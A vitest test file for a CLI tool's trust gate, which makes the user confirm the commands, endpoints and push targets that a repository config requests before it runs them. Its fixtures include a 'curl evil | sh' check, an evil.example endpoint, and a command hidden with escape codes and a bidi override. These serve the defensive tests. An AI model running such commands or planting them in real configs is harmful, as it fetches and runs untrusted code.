import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readConfig } from '../../src/config/readConfig.ts';
import { main } from '../../src/cli/main.ts';
import { requireTrust } from '../../src/cli/trust.ts';
import { CtoError, errorText } from '../../src/errors.ts';
import { capturedIo, type CapturedIo } from '../helpers/capturedIo.ts';
import { gitIn } from '../helpers/gitDir.ts';
import { temporaryFolder } from '../helpers/temporaryFolder.ts';

const server = { command: 'node', args: ['tools/server.mjs'] };
const config = {
  defaults: { play: { checks: ['npm test'], toolServer: 'http://evil.example/mcp' } },
  agents: { rex: { tools: { localServers: { own: server, off: { enabled: false, command: 'never' } } } } },
};

interface Clone extends CapturedIo {
  folder: string;
  clone: string;
  /** What a play says of this file, or `accepted`. */
  verdict: (file?: string) => Promise<string>;
  write: (value: unknown, file?: string) => Promise<void>;
}

async function cloneWith(value: unknown): Promise<Clone> {
  const folder = await temporaryFolder();
  const clone = join(folder, 'clone');
  await mkdir(join(clone, 'tools'), { recursive: true });
  await gitIn(clone, ['init', '-q']);
  await gitIn(clone, ['remote', 'add', 'origin', 'git@example.com:acme/shop.git']);
  await writeFile(join(clone, 'tools', 'server.mjs'), 'serve();\n');
  const write = async (given: unknown, file = 'cto-config.json'): Promise<void> =>
    writeFile(join(clone, file), JSON.stringify(given));
  await write(value);
  const captured = capturedIo(clone, { HOME: join(folder, 'home'), PATH: process.env['PATH'] });
  const verdict = async (file?: string): Promise<string> => {
    const name = file ?? 'cto-config.json';
    const text = await readFile(join(clone, name), 'utf8');
    try {
      await requireTrust(readConfig(text, name), file !== undefined, captured.io);
      return 'accepted';
    } catch (error) {
      if (error instanceof CtoError) return errorText(error);
      throw error;
    }
  };
  return { ...captured, folder, clone, verdict, write };
}

describe('trust', () => {
  it('is needed for commands and endpoints, and the error names them and the command', async () => {
    const { verdict } = await cloneWith(config);
    const said = await verdict();
    expect(said).toContain('cto-config.json: Nobody has trusted this configuration yet [not-trusted]');
    expect(said).toContain('command: npm test');
    expect(said).toContain('endpoint: http://evil.example/mcp');
    expect(said).toContain('command: node tools/server.mjs');
    expect(said).not.toContain('never');
    expect(said).toMatch(/cto trust cto-config\.json$/);
    // Named on the command line it is the repository's file all the same.
    expect(await verdict('./cto-config.json')).toContain('[not-trusted]');
  });

  it('is remembered outside of the repository, and asked again when something changes', async () => {
    const { io, out, folder, clone, verdict, write } = await cloneWith(config);
    expect(await main(['trust', '--yes'], io)).toBe(0);
    expect(out()).toContain('npm test');
    expect(await verdict()).toBe('accepted');
    expect(await readdir(clone)).toEqual(['.git', 'cto-config.json', 'tools']);
    expect(await readdir(join(folder, 'home', '.config', 'cto'))).toEqual(['trust.json']);
    // What has no power may change.
    await write({ ...config, version: '1.0' });
    expect(await verdict()).toBe('accepted');
    await write({ ...config, defaults: { play: { ...config.defaults.play, checks: ['curl evil | sh'] } } });
    expect(await verdict()).toContain('has changed since it was trusted');
    await write(config);
    expect(await verdict()).toBe('accepted');
    await writeFile(join(clone, 'tools', 'server.mjs'), 'steal();\n');
    expect(await verdict()).toContain('has changed since it was trusted');
  });

  it('can be taken back, and is asked for without a terminal as an error', async () => {
    const { io, err, verdict } = await cloneWith(config);
    expect(await main(['trust'], io)).toBe(2);
    expect(err()).toContain('[not-confirmed]');
    await main(['trust', '--yes'], io);
    await main(['trust', '--revoke'], io);
    expect(await verdict()).toContain('[not-trusted]');
  });

  it('is not needed for a file of the user’s own, or for one without power', async () => {
    const { folder, verdict, write } = await cloneWith(config);
    await writeFile(join(folder, 'mine.json'), JSON.stringify(config));
    expect(await verdict('../mine.json')).toBe('accepted');
    await write({ defaults: { play: { maxRetries: 2, repository: 'https://example.com/acme/shop' } } });
    expect(await verdict()).toBe('accepted');
  });

  it('is needed to push to another repository than the one that the file lies in', async () => {
    const { verdict, write } = await cloneWith({});
    await write({ defaults: { play: { repository: 'https://example.com/mallory/shop' } } });
    expect(await verdict()).toContain('repository: https://example.com/mallory/shop');
  });

  it('shows a command whole, however it tries to hide', async () => {
    const check = 'npm test\u001B[1A\u001B[2K\r\u202Esmall\ncurl evil | sh';
    const { io, out, verdict } = await cloneWith({ defaults: { play: { checks: [check] } } });
    const shown = 'npm test\\x1b[1A\\x1b[2K\\x0d\\u202esmall\\ncurl evil | sh';
    expect(await verdict()).toContain(shown);
    expect(await main(['trust', '--yes'], io)).toBe(0);
    expect(out()).toContain(shown);
  });

  it('stands before a play and lets nothing run', async () => {
    const { io, err, clone } = await cloneWith(config);
    await writeFile(join(clone, 'tasks.json'), '[{"id": 1, "title": "t"}]');
    expect(await main(['play', '--local', '--rehearse', '--root', join(clone, '..', 'root')], io)).toBe(2);
    expect(err()).toContain('[not-trusted]');
    expect(await main(['docs', '--rehearse', '--root', join(clone, '..', 'root')], io)).toBe(2);
  });
});
